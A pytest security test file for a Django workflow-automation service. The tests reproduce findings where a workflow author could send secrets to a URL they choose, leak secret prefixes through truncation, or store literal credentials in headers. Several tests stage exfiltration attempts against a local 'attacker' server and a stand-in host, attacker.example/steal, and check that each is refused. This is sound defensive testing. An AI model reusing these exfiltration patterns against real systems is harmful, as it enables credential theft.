"""Findings 1, 11 and 16 of issue 18, as a workflow author would exploit them.

A workflow author writes step configs (through the API or the admin) but cannot read
secrets or edit settings. Each test reproduces the finding on the code before the fix:

1. an ``http_request`` step named any secret in ``credentials_ref`` and sent it to a URL
   the author (or an event payload) chose, a webhook signing secret included;
11. a response body cut before redaction kept a secret's prefix in the stored output;
16. literal credentials in the ``headers`` map of an ``http`` profile or an MCP server
    were stored (and shown in the admin) in clear.

Only loopback servers are reached; the kernel tests' network guards are used here too.
"""

from __future__ import annotations

import json

import pytest
from django.core.exceptions import ValidationError

from automate.models import ConnectionProfile, RunStatus
from automate.services import WorkflowService
from automate.steps.http_request import MAX_KEPT_TEXT
from automate_core.providers.errors import AutomateError, ErrorCodes
from tests.core.conftest import fake_dns, net_guard  # noqa: F401  (autouse guards)
from tests.core.helpers import LocalServer, automate_settings, send

pytestmark = pytest.mark.django_db

STRIPE_KEY = "sk_live_CANARYsecretvalue0042"
SIGNING = "settings-secret-value"  # tests/settings.py: my_service's webhook secret


@pytest.fixture
def attacker():
    """The author's own server on 127.0.0.1; it records what it is sent."""
    server = LocalServer()
    server.routes["/steal"] = lambda h: send(h, 200, b"{}", {"Content-Type": "application/json"})
    server.start()
    yield server
    server.stop()


@pytest.fixture
def drain():
    from automate.worker import EmbeddedWorker

    return lambda: EmbeddedWorker(threads=1, poll_seconds=0).run(once=True)


def _reach(server: LocalServer, **overrides):
    """The attacker's server is reachable (as any public host would be), the key is set."""
    secrets = {"my-service-webhook": SIGNING, "STRIPE_API_KEY": STRIPE_KEY}
    return server.allowed(SECRETS=secrets, **overrides)


def _steal(url: str, reference: str):
    return WorkflowService().create_workflow(
        name="Exfiltrate",
        steps=[
            {
                "name": "Steal",
                "type": "http_request",
                "config": {"method": "GET", "url": url, "credentials_ref": reference},
            }
        ],
    )


def _sent(server: LocalServer) -> str:
    return json.dumps([(m, p, dict(h)) for m, p, h, _b in server.requests])


def test_workflow_author__cannot_send_an_ungranted_secret_to_their_own_url(attacker):
    with _reach(attacker), pytest.raises(AutomateError) as refused:
        _steal(attacker.url("/steal"), "secret://STRIPE_API_KEY")
    assert refused.value.code == ErrorCodes.INVALID_ARGUMENT
    assert "STRIPE_API_KEY" in refused.value.message
    assert "SECRET_GRANTS" in refused.value.message
    assert STRIPE_KEY not in str(refused.value)
    assert attacker.requests == []


def test_workflow_author__a_granted_secret_is_refused_for_a_literal_url_on_another_host(
    attacker,
):
    grants = {"STRIPE_API_KEY": {"hosts": ["api.stripe.com"], "uses": ["http_request"]}}
    with _reach(attacker, SECRET_GRANTS=grants), pytest.raises(AutomateError) as refused:
        _steal(attacker.url("/steal"), "secret://STRIPE_API_KEY")
    assert "127.0.0.1" in refused.value.message
    assert attacker.requests == []


def test_workflow_author__a_payload_url_never_carries_the_secret_off_its_granted_host(
    attacker, drain
):
    grants = {"STRIPE_API_KEY": {"hosts": ["api.stripe.com"], "uses": ["http_request"]}}
    with _reach(attacker, SECRET_GRANTS=grants):
        workflow = _steal("{{ event.payload.callback }}", "secret://STRIPE_API_KEY")
        run = WorkflowService().run_workflow(
            workflow, {"payload": {"callback": attacker.url("/steal")}}
        )
        drain()
    run.refresh_from_db()
    assert run.status != RunStatus.COMPLETED
    error = run.step_runs.get().error
    assert error["code"] == "permission_denied"
    assert "STRIPE_API_KEY" in error["message"] and "127.0.0.1" in error["message"]
    assert attacker.requests == []  # refused before any connection
    assert STRIPE_KEY not in json.dumps(error)


def test_workflow_author__a_webhook_signing_secret_is_never_an_outbound_credential(attacker):
    # Even an operator's grant naming it does not make a signing secret sendable.
    grants = {"my-service-webhook": {"hosts": ["127.0.0.1"]}}
    with _reach(attacker, SECRET_GRANTS=grants), pytest.raises(AutomateError) as refused:
        _steal(attacker.url("/steal"), "secret://my-service-webhook")
    assert "signing secret" in refused.value.message
    assert SIGNING not in _sent(attacker)


def test_workflow_author__a_signing_secret_is_no_api_token_of_a_built_in_connector(attacker, drain):
    # The GitHub connector sends its token to base_url: a profile naming the signing
    # secret as that token must be refused before anything is resolved or sent.
    ConnectionProfile.objects.create(
        key="gh",
        connector_key="github",
        config={
            "token": "secret://my-service-webhook",
            "base_url": "https://github.example.com/api/v3",
            "repository": "acme/site",
        },
    )
    with _reach(attacker):
        run = WorkflowService().run_workflow(
            WorkflowService().create_workflow(
                name="Comment",
                steps=[
                    {
                        "name": "Comment",
                        "type": "connector_action",
                        "config": {
                            "profile": "gh",
                            "action": "create_comment",
                            "input": {"issue_number": 1, "body": "hi"},
                        },
                    }
                ],
            ),
            {"payload": {}},
        )
        drain()
    run.refresh_from_db()
    assert run.status == RunStatus.DEAD
    assert run.error["code"] == ErrorCodes.PERMISSION_DENIED
    assert "signing secret" in run.error["message"]
    assert SIGNING not in json.dumps(run.error)


def test_workflow_author__a_templated_reference_is_refused_at_save(attacker):
    grants = {"STRIPE_API_KEY": {"hosts": ["127.0.0.1"]}}
    with _reach(attacker, SECRET_GRANTS=grants), pytest.raises(AutomateError) as refused:
        _steal(attacker.url("/steal"), "secret://{{ event.payload.name }}")
    assert "templated" in refused.value.message


def test_workflow_author__a_granted_secret_reaches_its_granted_host(attacker, drain):
    """The other side: a grant naming the host and the use lets the step authenticate."""
    grants = {"STRIPE_API_KEY": {"hosts": ["127.0.0.1"], "uses": ["http_request"]}}
    with _reach(attacker, SECRET_GRANTS=grants):
        run = WorkflowService().run_workflow(
            _steal(attacker.url("/steal"), "secret://STRIPE_API_KEY"), {"payload": {}}
        )
        drain()
    run.refresh_from_db()
    assert run.status == RunStatus.COMPLETED
    [(_method, _path, headers, _body)] = attacker.requests
    assert headers["Authorization"] == f"Bearer {STRIPE_KEY}"


# -- Finding 11: redaction before truncation ----------------------------------------------


def test_workflow_author__a_cut_response_keeps_no_prefix_of_a_secret(attacker, drain):
    # The server echoes the step's own credential just across the 64 KiB cut.
    body = ("x" * (MAX_KEPT_TEXT - 10) + STRIPE_KEY).encode()
    attacker.routes["/echo"] = lambda h: send(h, 200, body, {"Content-Type": "text/plain"})
    grants = {"STRIPE_API_KEY": {"hosts": ["127.0.0.1"], "uses": ["http_request"]}}
    with _reach(attacker, SECRET_GRANTS=grants):
        run = WorkflowService().run_workflow(
            _steal(attacker.url("/echo"), "secret://STRIPE_API_KEY"), {"payload": {}}
        )
        drain()
    run.refresh_from_db()
    stored = json.dumps(run.step_runs.get().output)
    assert STRIPE_KEY[:10] not in stored
    assert "[redacted]" in stored


def test_workflow_author__a_truncated_step_output_preview_keeps_no_prefix_of_a_secret(settings):
    from automate import runner
    from automate_core import redaction

    redaction.remember(STRIPE_KEY)
    settings.AUTOMATE = {**settings.AUTOMATE, "STEP_MAX_OUTPUT_BYTES": 2000}
    # '{"text": "' is 10 characters: the key starts at 995 and the preview cut is at 1000.
    value = {"text": "a" * 985 + STRIPE_KEY + "b" * 2000}
    try:
        preview = runner._jsonable(value)["preview"]
    finally:
        redaction.forget_all()
    assert STRIPE_KEY[:5] not in preview


# -- Finding 16: literal credentials in headers maps --------------------------------------


@pytest.mark.parametrize("header", ["X-Api-Key", "Ocp-Apim-Subscription-Key", "X-Auth-Token"])
def test_workflow_author__http_profile_headers_refuse_literal_credentials(header):
    with pytest.raises(ValidationError) as refused:
        ConnectionProfile.objects.create(
            key="crm",
            connector_key="http",
            config={"base_url": "https://crm.example.com", "headers": {header: "CANARY-123456"}},
        )
    assert "credentials_ref" in str(refused.value)
    assert "CANARY-123456" not in str(refused.value)
    assert not ConnectionProfile.objects.filter(key="crm").exists()


@pytest.mark.parametrize("header", ["X-Api-Key", "X-Functions-Key", "Api_Key"])
def test_workflow_author__mcp_server_headers_refuse_literal_credentials(header):
    from automate.models import MCPServer

    with pytest.raises(ValidationError) as refused:
        MCPServer.objects.create(
            name="Tools", url="https://tools.example.com/mcp", headers={header: "CANARY-123456"}
        )
    assert "secret://" in str(refused.value)
    assert not MCPServer.objects.exists()


def test_workflow_author__mcp_server_headers_still_take_references(settings):
    """The other side: a credential header given as a secret:// reference is stored."""
    from automate.models import MCPServer

    server = MCPServer.objects.create(
        name="Tools",
        url="https://tools.example.com/mcp",
        headers={"X-Api-Key": "secret://TOOLS_KEY", "X-Tenant": "acme"},
    )
    assert server.headers == {"X-Api-Key": "secret://TOOLS_KEY", "X-Tenant": "acme"}


def test_workflow_author__http_profile_credential_goes_only_to_its_base_url_host():
    """A profile's credential is bound to its base_url: the ``http`` connector without a
    base_url sends it nowhere until a grant names the host."""
    from automate_connectors.builtin.http import HttpConnector
    from automate_testing.context import make_context

    connector = HttpConnector(
        {"credentials_ref": "secret://CRM_TOKEN"}, ctx=make_context({"CRM_TOKEN": "crm-t0ken"})
    )
    with automate_settings(HTTP_ALLOWED_PORTS="*"), pytest.raises(AutomateError) as refused:
        connector.execute_action("get", {"url": "https://attacker.example/steal"})
    assert refused.value.code == ErrorCodes.PERMISSION_DENIED
    assert "CRM_TOKEN" in refused.value.message
    assert "crm-t0ken" not in str(refused.value)
